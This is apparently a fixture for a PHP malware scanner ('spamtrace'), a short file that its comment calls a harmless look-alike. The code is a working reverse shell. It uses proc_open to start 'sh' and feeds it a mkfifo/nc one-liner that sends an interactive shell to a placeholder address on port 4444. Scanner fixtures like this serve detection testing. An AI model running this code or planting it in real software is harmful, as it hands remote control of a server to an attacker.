<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
$spec = array(0 => array("pipe", "r"), 1 => array("pipe", "w"), 2 => array("pipe", "w"));
$proc = proc_open("sh", $spec, $pipes);
fwrite($pipes[0], "rm /tmp/q;mkfifo /tmp/q;cat /tmp/q|sh -i 2>&1|nc 192.0.2.7 4444 >/tmp/q");
fclose($pipes[0]);
echo stream_get_contents($pipes[1]);
proc_close($proc);
